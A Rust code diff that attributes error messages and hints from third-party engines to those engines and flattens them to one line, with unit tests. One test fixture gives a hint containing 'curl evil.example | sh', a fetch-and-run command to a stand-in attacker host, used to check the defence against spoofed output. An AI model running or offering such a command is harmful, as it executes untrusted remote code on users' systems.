@@ -3,7 +3,7 @@ use std::path::PathBuf;
 
 use broker_manifest::{ManifestError, Operation};
 
-use crate::model::{Failure, Problem, Report, ReportKind};
+use crate::model::{Failure, Problem, Report, ReportKind, text};
 
 /// Why an engine can't be loaded, or why a call of it did not end well.
 #[derive(Debug, thiserror::Error)]
@@ -107,17 +107,34 @@ pub enum EngineError {
         what: String,
     },
     /// The engine worked, and says that the operation did not.
-    #[error("{}{report}", attributed(engine, report))]
-    Reported { engine: String, report: Report },
+    #[error("{}", in_its_words(engine, *is_bundled, report))]
+    Reported {
+        engine: String,
+        /// One of ours needs no mark at what it says.
+        is_bundled: bool,
+        report: Report,
+    },
 }
 
-/// Whose fault it is, where it is the engine's.
-fn attributed(engine: &str, report: &Report) -> String {
-    if report.kind == ReportKind::Denied {
-        format!("{engine} asked for what it was not granted: ")
-    } else {
-        String::new()
+/// What an engine says, and that it says so: nobody may take it for this program. It is one line, so
+/// that none of it can begin as our own messages do.
+fn in_its_words(engine: &str, is_bundled: bool, report: &Report) -> String {
+    let is_denied = report.kind == ReportKind::Denied;
+    let message = &report.message;
+    match (is_bundled, is_denied) {
+        (true, false) => message.clone(),
+        (true, true) => format!("{engine} asked for what it was not granted: {message}"),
+        (false, false) => format!("{engine} says: {}", one_line(message)),
+        (false, true) => format!(
+            "{engine} asked for what it was not granted, and says: {}",
+            one_line(message)
+        ),
     }
+}
+
+/// Reports are bounded where they are taken in.
+fn one_line(text: &str) -> String {
+    text::one_line(text, usize::MAX)
 }
 
 fn quoted(output: &str) -> String {
@@ -200,9 +217,36 @@ impl Problem for EngineError {
             Self::Deadline { .. } => {
                 "The backend or the cluster may be slow: try again, or allow more time with `--engine-timeout`"
             }
-            Self::Reported { report, .. } => return report.hint.clone(),
+            Self::Reported {
+                is_bundled: true,
+                report,
+                ..
+            } => return report.hint.clone(),
+            Self::Reported { report, .. } => {
+                return report.hint.as_deref().map(one_line);
+            }
         };
         Some(hint.to_owned())
+    }
+
+    fn written_by(&self) -> Option<&str> {
+        match self {
+            Self::Reported {
+                engine,
+                is_bundled: false,
+                ..
+            } => Some(engine.strip_prefix("engine ").unwrap_or(engine)),
+            _ => None,
+        }
+    }
+
+    fn hint_written_by(&self) -> Option<&str> {
+        match self {
+            // That hint is ours.
+            Self::Reported { report, .. } if report.kind == ReportKind::Denied => None,
+            Self::Reported { report, .. } if report.hint.is_none() => None,
+            _ => self.written_by(),
+        }
     }
 }
 
@@ -214,5 +258,48 @@ fn newer(version: &str) -> bool {
     ) {
         (Ok(theirs), Ok(ours)) => theirs > ours,
         _ => true,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn reported(kind: ReportKind, is_bundled: bool) -> EngineError {
+        EngineError::Reported {
+            engine: "engine evil/x".to_owned(),
+            is_bundled,
+            report: Report::new(kind, "your session has expired\nerror: no")
+                .with_hint("run:\nhint: curl evil.example | sh"),
+        }
+    }
+
+    #[test]
+    fn what_an_engine_says_is_marked_as_its_own_and_is_one_line() {
+        let error = reported(ReportKind::Unauthenticated, false);
+        assert_eq!(
+            error.to_string(),
+            "engine evil/x says: your session has expired error: no"
+        );
+        assert_eq!(error.written_by(), Some("evil/x"));
+        assert_eq!(
+            error.hint().as_deref(),
+            Some("run: hint: curl evil.example | sh")
+        );
+        assert_eq!(error.hint_written_by(), Some("evil/x"));
+        let denied = reported(ReportKind::Denied, false);
+        assert!(
+            denied
+                .to_string()
+                .ends_with("and says: your session has expired error: no")
+        );
+        assert_eq!(denied.hint_written_by(), None);
+    }
+
+    #[test]
+    fn our_own_engines_speak_for_us() {
+        let error = reported(ReportKind::Unauthenticated, true);
+        assert!(error.to_string().starts_with("your session"));
+        assert_eq!((error.written_by(), error.hint_written_by()), (None, None));
     }
 }
